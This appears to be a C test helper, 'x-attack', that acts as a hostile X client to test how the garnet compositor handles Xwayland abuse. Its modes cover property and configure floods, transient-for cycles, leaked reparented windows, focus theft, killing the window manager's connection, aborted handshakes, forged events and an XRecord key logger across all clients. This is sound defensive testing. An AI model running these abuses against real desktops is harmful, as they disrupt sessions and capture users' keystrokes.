// SPDX-License-Identifier: MIT
// x-attack: a hostile X client of one domain, speaking raw X (xcb) to its own Xwayland and so
// to garnet's window manager. Each mode is one abuse; the test (xwayland-abuse-test.sh)
// checks what garnet did about it. Windows are filled with their background, so that
// Xwayland gives them content and garnet shows them.
// usage: x-attack MODE ARGS...   (see usage())
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include <xcb/record.h>
#include <xcb/xcb.h>
#include <xcb/xcbext.h>

static xcb_connection_t *conn;
static xcb_screen_t *screen;

static void die(const char *what)
{
	fprintf(stderr, "x-attack: %s\n", what);
	exit(1);
}

static void connect_x(void)
{
	conn = xcb_connect(NULL, NULL);
	if (xcb_connection_has_error(conn))
		die("cannot connect");
	screen = xcb_setup_roots_iterator(xcb_get_setup(conn)).data;
}

static void sync_x(void)
{
	free(xcb_get_input_focus_reply(conn, xcb_get_input_focus(conn), NULL));
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static xcb_atom_t atom(const char *name)
{
	xcb_intern_atom_reply_t *r = xcb_intern_atom_reply(
		conn, xcb_intern_atom(conn, 0, (uint16_t)strlen(name), name), NULL);
	xcb_atom_t a = r ? r->atom : XCB_NONE;

	free(r);
	return a;
}

static xcb_window_t window(xcb_window_t parent, int x, int y, int w, int h, bool override)
{
	xcb_window_t id = xcb_generate_id(conn);

	xcb_create_window(conn, XCB_COPY_FROM_PARENT, id, parent, (int16_t)x, (int16_t)y,
			  (uint16_t)w, (uint16_t)h, 0, XCB_WINDOW_CLASS_INPUT_OUTPUT,
			  screen->root_visual, XCB_CW_BACK_PIXEL | XCB_CW_OVERRIDE_REDIRECT,
			  (uint32_t[]){screen->white_pixel, override});
	return id;
}

static void set_string(xcb_window_t win, xcb_atom_t property, const char *s, size_t len)
{
	xcb_change_property(conn, XCB_PROP_MODE_REPLACE, win, property, XCB_ATOM_STRING, 8,
			    (uint32_t)len, s);
}

static void title(xcb_window_t win, const char *s)
{
	set_string(win, XCB_ATOM_WM_NAME, s, strlen(s));
	/* "instance\0class\0": the class is the app id garnet logs. */
	char class[128];
	int n = snprintf(class, sizeof(class), "%s%c%s", s, 0, s);

	set_string(win, XCB_ATOM_WM_CLASS, class, (size_t)n + 1);
}

static void transient_for(xcb_window_t win, xcb_window_t parent)
{
	xcb_change_property(conn, XCB_PROP_MODE_REPLACE, win, XCB_ATOM_WM_TRANSIENT_FOR,
			    XCB_ATOM_WINDOW, 32, 1, &parent);
}

__attribute__((format(printf, 1, 2))) static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

/* props SECONDS: one managed window whose title and class change as fast as X takes it, each
 * change as long as a property can be: a window manager that reads each change with a
 * round trip spends all its time on this window. */
static int props(int seconds)
{
	xcb_window_t win = window(screen->root, 10, 10, 200, 100, false);
	xcb_atom_t net_name = atom("_NET_WM_NAME"), utf8 = atom("UTF8_STRING");
	static char big[256 * 1024];
	unsigned long changes = 0;
	double end;

	title(win, "x-attack-props");
	xcb_map_window(conn, win);
	sync_x();
	sleep(1);
	memset(big, 'A', sizeof(big));
	end = now() + seconds;
	while (now() < end) {
		for (int i = 0; i < 500; i++, changes++) {
			size_t len = (changes % 5000) ? 16 : sizeof(big);

			big[0] = (char)('a' + changes % 26);
			set_string(win, XCB_ATOM_WM_NAME, big, len);
			xcb_change_property(conn, XCB_PROP_MODE_REPLACE, win, net_name, utf8, 8,
					    (uint32_t)len, big);
			set_string(win, XCB_ATOM_WM_CLASS, big, len);
		}
		xcb_flush(conn);
	}
	sync_x();
	say("changes %lu", changes);
	return 0;
}

/* cycle SECONDS: WM_TRANSIENT_FOR a->b->a and c->c, set once all three are shown (so that
 * each names a window garnet manages); d is an honest dialog of b. */
static int cycle(int seconds)
{
	xcb_window_t a = window(screen->root, 10, 10, 100, 100, false);
	xcb_window_t b = window(screen->root, 20, 20, 100, 100, false);
	xcb_window_t c = window(screen->root, 30, 30, 100, 100, false);
	xcb_window_t d = window(screen->root, 40, 40, 100, 100, false);

	title(a, "cycle-a");
	title(b, "cycle-b");
	title(c, "cycle-self");
	title(d, "cycle-dialog");
	xcb_map_window(conn, a);
	xcb_map_window(conn, b);
	xcb_map_window(conn, c);
	xcb_map_window(conn, d);
	sync_x();
	sleep(2);
	transient_for(a, b);
	transient_for(b, a);
	transient_for(c, c);
	transient_for(d, b);
	sync_x();
	say("cycle set");
	sleep((unsigned int)seconds);
	return 0;
}

/* reparent COUNT: a shown window goes into another window of the client's and back (a
 * managed window again: "reparent-back"), then COUNT windows are made, reparented away from
 * the root and destroyed there, where the window manager hears nothing of them. */
static int reparent(int count)
{
	xcb_window_t holder = window(screen->root, 0, 0, 300, 300, false);
	xcb_window_t w = window(screen->root, 10, 10, 100, 100, false);

	title(holder, "reparent-holder");
	title(w, "reparent-victim");
	xcb_map_window(conn, holder);
	xcb_map_window(conn, w);
	sync_x();
	sleep(2);
	xcb_reparent_window(conn, w, holder, 5, 5);
	sync_x();
	say("reparented away");
	sleep(2);
	title(w, "reparent-back");
	xcb_unmap_window(conn, w);
	xcb_reparent_window(conn, w, screen->root, 50, 50);
	xcb_map_window(conn, w);
	sync_x();
	say("reparented back");
	sleep(2);
	for (int i = 0; i < count; i++) {
		xcb_window_t t = window(screen->root, 0, 0, 10, 10, true);

		xcb_reparent_window(conn, t, holder, 0, 0);
		xcb_destroy_window(conn, t);
		if (i % 256 == 255)
			sync_x();
	}
	sync_x();
	say("leaked %lu", (unsigned long)count);
	sleep(1);
	return 0;
}

/* or-managed SECONDS: a window made override-redirect, then mapped again as a managed one
 * (so it asked for no focus events at creation), takes the X focus while garnet gives the
 * keyboard to another window, and counts the keys it then gets. */
static int or_managed(int seconds)
{
	xcb_window_t w = window(screen->root, 10, 10, 100, 100, true);
	xcb_generic_event_t *ev;
	unsigned long keys = 0;
	double end;

	title(w, "or-managed");
	xcb_map_window(conn, w);
	sync_x();
	usleep(300000);
	xcb_unmap_window(conn, w);
	xcb_change_window_attributes(conn, w, XCB_CW_OVERRIDE_REDIRECT | XCB_CW_EVENT_MASK,
				     (uint32_t[]){0, XCB_EVENT_MASK_KEY_PRESS});
	xcb_map_window(conn, w);
	sync_x();
	say("managed");
	/* The test now opens the window garnet will focus; then the focus is taken. */
	sleep(4);
	xcb_set_input_focus(conn, XCB_INPUT_FOCUS_PARENT, w, XCB_CURRENT_TIME);
	sync_x();
	say("focus taken");
	end = now() + seconds;
	while (now() < end) {
		while ((ev = xcb_poll_for_event(conn))) {
			keys += (ev->response_type & ~0x80) == XCB_KEY_PRESS;
			free(ev);
		}
		usleep(10000);
	}
	say("keys %lu", keys);
	return 0;
}

/* maps COUNT: COUNT managed windows made, mapped, unmapped and destroyed, in bursts. */
static int maps(int count)
{
	for (int i = 0; i < count; i++) {
		xcb_window_t w = window(screen->root, i % 500, i % 300, 20, 20, i % 2);

		xcb_map_window(conn, w);
		xcb_unmap_window(conn, w);
		xcb_destroy_window(conn, w);
		if (i % 500 == 499)
			sync_x();
	}
	sync_x();
	say("mapped %lu", (unsigned long)count);
	return 0;
}

/* geometry SECONDS: windows at the edges of X's coordinates and sizes, managed and not, and
 * configure requests for absurd geometry, flooded. */
static int geometry(int seconds)
{
	static const int spots[][4] = {
		{-32768, -32768, 1, 1},
		{32767, 32767, 1, 1},
		{-30000, 100, 32767, 2},
		{0, 0, 65535, 1},
	};
	xcb_window_t managed = window(screen->root, 0, 0, 100, 100, false);
	unsigned long requests = 0;
	double end;

	title(managed, "geometry-managed");
	xcb_map_window(conn, managed);
	for (size_t i = 0; i < sizeof(spots) / sizeof(spots[0]); i++) {
		xcb_window_t w = window(screen->root, spots[i][0], spots[i][1], spots[i][2],
					spots[i][3], i % 2);

		xcb_map_window(conn, w);
	}
	sync_x();
	sleep(1);
	end = now() + seconds;
	while (now() < end) {
		for (int i = 0; i < 100; i++, requests++) {
			int32_t v = (int32_t)(requests % 3 == 0 ? -32768 : 32767);

			xcb_configure_window(
				conn, managed,
				XCB_CONFIG_WINDOW_X | XCB_CONFIG_WINDOW_Y |
					XCB_CONFIG_WINDOW_WIDTH | XCB_CONFIG_WINDOW_HEIGHT |
					XCB_CONFIG_WINDOW_BORDER_WIDTH,
				(uint32_t[]){(uint32_t)v, (uint32_t)v, requests % 2 ? 65535 : 1,
					     requests % 2 ? 1 : 65535, 65535});
		}
		xcb_flush(conn);
	}
	sync_x();
	say("configure requests %lu", requests);
	return 0;
}

/* kill-wm: XKillClient on the window manager's own window (_NET_SUPPORTING_WM_CHECK), which
 * ends garnet's connection to this server. */
static int kill_wm(void)
{
	xcb_atom_t check = atom("_NET_SUPPORTING_WM_CHECK");
	xcb_get_property_reply_t *r = xcb_get_property_reply(
		conn, xcb_get_property(conn, 0, screen->root, check, XCB_ATOM_WINDOW, 0, 1), NULL);
	xcb_window_t wm;

	if (!r || xcb_get_property_value_length(r) != 4)
		die("no window manager window");
	wm = *(xcb_window_t *)xcb_get_property_value(r);
	free(r);
	xcb_kill_client(conn, wm);
	sync_x();
	say("killed the window manager's client (window 0x%x)", wm);
	return 0;
}

/* handshake DISPLAY_NUMBER COUNT: connections to the display's socket that close in the
 * middle of X's connection setup (none of it, half of it, all but the last byte). */
static int handshake(int number, int count)
{
	/* byte order 'l', protocol 11.0, no authorization: 12 bytes */
	static const char setup[12] = {'l', 0, 11, 0, 0, 0, 0, 0, 0, 0, 0, 0};
	struct sockaddr_un addr = {.sun_family = AF_UNIX};

	snprintf(addr.sun_path, sizeof(addr.sun_path), "/tmp/.X11-unix/X%d", number);
	for (int i = 0; i < count; i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		size_t len = (size_t)(i % 3 == 0 ? 0 : i % 3 == 1 ? 6 : 11);

		if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0)
			die(strerror(errno));
		if (len && write(fd, setup, len) != (ssize_t)len)
			die(strerror(errno));
		close(fd);
	}
	say("closed %lu connections mid-handshake", (unsigned long)count);
	return 0;
}

/* record SECONDS: XRecord on every client's key events, as a key logger would; prints how many
 * it saw. */
static int record(int seconds)
{
	xcb_record_context_t ctx = xcb_generate_id(conn);
	xcb_record_client_spec_t all = XCB_RECORD_CS_ALL_CLIENTS;
	xcb_record_range_t range = {0};
	xcb_connection_t *data;
	xcb_record_enable_context_cookie_t cookie;
	unsigned long keys = 0;
	double end;
	xcb_generic_error_t *error;

	range.device_events.first = XCB_KEY_PRESS;
	range.device_events.last = XCB_KEY_RELEASE;
	error = xcb_request_check(
		conn, xcb_record_create_context_checked(conn, ctx, 0, 1, 1, &all, &range));
	if (error)
		die("no XRecord context");
	sync_x();
	/* The context's data comes on a connection of its own. */
	data = xcb_connect(NULL, NULL);
	if (xcb_connection_has_error(data))
		die("cannot connect for the data");
	cookie = xcb_record_enable_context(data, ctx);
	xcb_flush(data);
	say("recording");
	end = now() + seconds;
	fcntl(xcb_get_file_descriptor(data), F_SETFL, O_NONBLOCK);
	while (now() < end) {
		xcb_record_enable_context_reply_t *r;

		/* Only reading events makes xcb read the socket, where the replies come. */
		free(xcb_poll_for_event(data));
		while (xcb_poll_for_reply(data, cookie.sequence, (void **)&r, &error) && r) {
			/* category 0: FromServer, the events */
			if (r->category == 0)
				keys += (unsigned long)xcb_record_enable_context_data_length(r) /
					32;
			free(r);
		}
		usleep(20000);
	}
	say("keys %lu", keys);
	xcb_disconnect(data);
	return 0;
}

/* forge COUNT: CreateNotify events for windows that never existed, sent to the root with
 * SendEvent, where the window manager listens for its substructure. */
static int forge(int count)
{
	for (int i = 0; i < count; i++) {
		xcb_create_notify_event_t ev = {
			.response_type = XCB_CREATE_NOTIFY,
			.parent = screen->root,
			.window = 0x7f000000u + (uint32_t)i,
			.width = 10,
			.height = 10,
		};

		xcb_send_event(conn, 0, screen->root, XCB_EVENT_MASK_SUBSTRUCTURE_NOTIFY,
			       (const char *)&ev);
		if (i % 256 == 255)
			sync_x();
	}
	sync_x();
	printf("forged %d\n", count);
	fflush(stdout);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: x-attack props SECONDS | cycle SECONDS | reparent COUNT |\n"
			"       or-managed SECONDS | maps COUNT | geometry SECONDS | kill-wm |\n"
			"       handshake DISPLAY_NUMBER COUNT | record SECONDS | forge COUNT\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	if (strcmp(argv[1], "handshake") == 0)
		return argc == 4 ? handshake(atoi(argv[2]), atoi(argv[3])) : usage();
	connect_x();
	if (strcmp(argv[1], "kill-wm") == 0)
		return kill_wm();
	if (argc != 3)
		return usage();
	if (strcmp(argv[1], "props") == 0)
		return props(atoi(argv[2]));
	if (strcmp(argv[1], "cycle") == 0)
		return cycle(atoi(argv[2]));
	if (strcmp(argv[1], "reparent") == 0)
		return reparent(atoi(argv[2]));
	if (strcmp(argv[1], "or-managed") == 0)
		return or_managed(atoi(argv[2]));
	if (strcmp(argv[1], "maps") == 0)
		return maps(atoi(argv[2]));
	if (strcmp(argv[1], "geometry") == 0)
		return geometry(atoi(argv[2]));
	if (strcmp(argv[1], "record") == 0)
		return record(atoi(argv[2]));
	if (strcmp(argv[1], "forge") == 0)
		return forge(atoi(argv[2]));
	return usage();
}
